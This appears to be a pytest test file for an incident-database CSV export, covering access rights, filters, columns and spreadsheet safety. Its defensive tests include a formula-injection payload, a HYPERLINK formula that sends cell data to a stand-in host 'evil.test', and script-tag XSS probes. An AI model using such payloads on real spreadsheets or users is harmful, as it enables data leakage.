"""The CSV export: what it contains, for whom, with the lists' filters, safe to open in a spreadsheet."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
import time_machine

from advisories.models import Region
from incidents.export import COLUMNS, safe_text
from incidents.models import IncidentActor, IncidentType, ReviewStatus, SharingLevel, TargetType
from tests.factories import ActorFactory, IncidentFactory
from tests.incidents.test_lists import ALL_OF_A, VISIBLE, build_matrix, sign_in


def export(client, query: str = "") -> list[dict[str, str]]:
    response = client.get(f"/incidents/export.csv{query}")
    assert response.status_code == 200
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("who", sorted(VISIBLE))
def test_the_export_contains_exactly_the_incidents_the_user_may_see(client, cast, who):
    build_matrix(cast)
    sign_in(client, getattr(cast, who))

    rows = export(client)

    assert sorted(row["title"] for row in rows) == sorted(VISIBLE[who])


def test_the_export_of_my_organisation_keeps_its_incidents_only(client, cast):
    build_matrix(cast)
    client.force_login(cast.officer_a)

    assert {row["title"] for row in export(client, "?mine=1")} == ALL_OF_A


def test_the_export_of_my_organisation_is_refused_to_a_user_of_no_organisation(client, cast):
    client.force_login(cast.outsider)

    assert client.get("/incidents/export.csv?mine=1").status_code == 403


@time_machine.travel(dt.datetime(2025, 3, 4, 10, 0, tzinfo=dt.UTC), tick=False)
def test_the_export_is_a_csv_attachment_named_with_the_date_and_a_header_row(client, db):
    response = client.get("/incidents/export.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="vigil-incidents-2025-03-04.csv"'
    lines = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    assert lines == [",".join(COLUMNS)]


def test_a_row_has_every_useful_column(client, cast):
    incident = IncidentFactory.create(
        title="Ambush of an NGO convoy",
        incident_type=IncidentType.objects.get(slug="armed-attack"),
        occurred_on=dt.date(2024, 9, 17),
        occurred_at_time=dt.time(6, 30),
        date_precision="day",
        region=Region.objects.get(code="ML-7"),
        place_name="Ansongo",
        latitude=Decimal("15.66"),
        longitude=Decimal("0.50222"),
        killed=2,
        injured=3,
        abducted=1,
        severity=4,
        sharing_level=SharingLevel.GREEN,
        status=ReviewStatus.VERIFIED,
        organisation=cast.org_a,
        description="Two vehicles were stopped.\nDrivers were released.",
        sources="Staff report\nLocal radio",
        external_source="acled",
        external_id="MLI1234",
    )
    incident.target_types.set(TargetType.objects.filter(slug__in=["ngo-staff", "civilians"]))
    IncidentActor.objects.create(incident=incident, actor=ActorFactory.create(name="JNIM"))
    IncidentActor.objects.create(
        incident=incident, actor=ActorFactory.create(name="FAMa"), role=IncidentActor.Role.TARGET
    )
    client.force_login(cast.reader_a)

    [row] = export(client)

    assert row == {
        "id": str(incident.pk),
        "date": "2024-09-17",
        "date_precision": "day",
        "time": "06:30:00",
        "country_code": "ML",
        "region_code": "ML-7",
        "region": "Gao",
        "place": "Ansongo",
        "latitude": "15.66000",
        "longitude": "0.50222",
        "location_precision": "exact",
        "title": "Ambush of an NGO convoy",
        "type": "Armed attack",
        "acled_event_type": "Violence against civilians",
        "acled_sub_event_type": "Attack",
        "category": "Terrorism",
        "actors": "JNIM (Perpetrator); FAMa (Target)",
        "target_types": "NGO staff; Civilians",
        "killed": "2",
        "injured": "3",
        "abducted": "1",
        "severity": "4",
        "sharing_level": "TLP:GREEN",
        "status": "verified",
        "organisation": "Sahel Relief",
        "description": "Two vehicles were stopped.\nDrivers were released.",
        "sources": "Staff report\nLocal radio",
        "external_source": "acled",
        "external_id": "MLI1234",
        "url": f"http://testserver/incidents/{incident.pk}/",
    }


def test_the_export_applies_the_lists_filters(client, db):
    IncidentFactory.create(title="Serious in Gao", severity=4, region=Region.objects.get(code="ML-7"))
    IncidentFactory.create(title="Minor in Gao", severity=1, region=Region.objects.get(code="ML-7"))
    IncidentFactory.create(title="Serious in Bamako", severity=5, region=Region.objects.get(code="ML-BKO"))

    rows = export(client, "?severity_min=3&region=ML-7")

    assert [row["title"] for row in rows] == ["Serious in Gao"]


def test_an_invalid_filter_refuses_the_export_with_a_message(client, db):
    IncidentFactory.create(title="Anything")

    response = client.get("/incidents/export.csv?occurred_after=2024-02-30&severity_min=high")

    assert response.status_code == 400
    assert response["Content-Type"] == "text/html; charset=utf-8"
    message = response.content.decode()
    assert "<h1>The export was not made</h1>" in message
    assert "From: Enter a valid date." in message
    assert "Severity: Select a valid choice. high is not one of the available choices." in message
    assert "ISO 3166 codes, such as ml for Mali or ml-bko for Bamako" in message


def test_the_export_of_my_organisation_refused_says_why_on_the_same_kind_of_page(client, cast):
    client.force_login(cast.outsider)

    response = client.get("/incidents/export.csv?mine=1")

    assert response.status_code == 403
    assert response["Content-Type"] == "text/html; charset=utf-8"
    assert "You are not a member of any organisation." in response.content.decode()


def test_the_export_takes_country_and_region_codes_in_lower_case(client, db):
    IncidentFactory.create(title="In Gao", region=Region.objects.get(code="ML-7"))
    IncidentFactory.create(title="In Bamako", region=Region.objects.get(code="ML-BKO"))

    assert sorted(row["title"] for row in export(client, "?country=ml")) == ["In Bamako", "In Gao"]
    assert [row["title"] for row in export(client, "?region=ml-bko")] == ["In Bamako"]
    assert [row["title"] for row in export(client, "?country=Ml&region=ml-7")] == ["In Gao"]


def test_the_export_refuses_a_country_that_does_not_exist_with_a_message(client, db):
    response = client.get("/incidents/export.csv?country=zz")

    assert response.status_code == 400
    assert "Country: Select a valid choice." in response.content.decode()


def test_an_unknown_count_is_an_empty_cell_and_a_zero_stays_zero(client, db):
    IncidentFactory.create(title="Partly known", killed=0, injured=None, abducted=2)

    [row] = export(client)

    assert (row["killed"], row["injured"], row["abducted"]) == ("0", "", "2")


# --- Spreadsheet safety --------------------------------------------------------------------

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("trigger", TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
@pytest.mark.parametrize("column", ["title", "description", "place", "actors"])
def test_a_text_cell_that_a_spreadsheet_would_run_as_a_formula_is_quoted(client, db, trigger, column):
    payload = f'{trigger}HYPERLINK("http://evil.test/?"&A1,"Click")'
    fields = {"title": "Plain title", "description": "Plain.", "place_name": "Plain place"}
    if column != "actors":
        fields[{"title": "title", "description": "description", "place": "place_name"}[column]] = payload
    incident = IncidentFactory.create(**fields)
    actor_name = payload if column == "actors" else "Plain actor"
    IncidentActor.objects.create(incident=incident, actor=ActorFactory.create(name=actor_name))

    [row] = export(client)

    expected = "'" + payload
    if column == "actors":
        expected += " (Perpetrator)"
    assert row[column] == expected
    for other in {"title", "description", "place", "actors"} - {column}:
        assert not row[other].startswith("'")


def test_a_negative_number_stays_a_number(client, db):
    IncidentFactory.create(latitude=Decimal("-5.2"), longitude=Decimal("-12.25"), title="South-west of somewhere")

    [row] = export(client)

    assert row["latitude"] == "-5.20000" and Decimal(row["latitude"]) == Decimal("-5.2")
    assert row["longitude"] == "-12.25000"


def test_safe_text_leaves_ordinary_text_alone():
    assert safe_text("Attack on a convoy; 3 killed") == "Attack on a convoy; 3 killed"
    assert safe_text(" =not at the start") == " =not at the start"
    assert safe_text("") == ""


def test_script_in_any_text_is_plain_text_in_the_csv(client, db):
    incident = IncidentFactory.create(
        title="<script>alert('t')</script>",
        description="<script>alert('d')</script>",
        place_name="<script>alert('p')</script>",
    )
    IncidentActor.objects.create(incident=incident, actor=ActorFactory.create(name="<script>alert('a')</script>"))

    [row] = export(client)

    assert row["title"] == "<script>alert('t')</script>"
    assert row["description"] == "<script>alert('d')</script>"
    assert row["place"] == "<script>alert('p')</script>"
    assert row["actors"] == "<script>alert('a')</script> (Perpetrator)"


def test_text_with_commas_quotes_and_line_breaks_survives_a_round_trip(client, db):
    description = 'He said "leave now", then left.\r\nSecond line, with a comma.'
    IncidentFactory.create(description=description)

    [row] = export(client)

    assert row["description"] == description


def test_an_export_larger_than_a_batch_keeps_each_incidents_actors_and_targets(client, db, monkeypatch):
    monkeypatch.setattr("incidents.selectors.EXPORT_BATCH_SIZE", 2)
    civilians = TargetType.objects.get(slug="civilians")
    for n in range(5):
        incident = IncidentFactory.create(title=f"Incident {n}", occurred_on=dt.date(2024, 1, 1 + n))
        IncidentActor.objects.create(incident=incident, actor=ActorFactory.create(name=f"Group {n}"))
        if n % 2:
            incident.target_types.add(civilians)

    rows = export(client)

    assert [(row["title"], row["actors"], row["target_types"]) for row in rows] == [
        (f"Incident {n}", f"Group {n} (Perpetrator)", "Civilians" if n % 2 else "") for n in range(4, -1, -1)
    ]
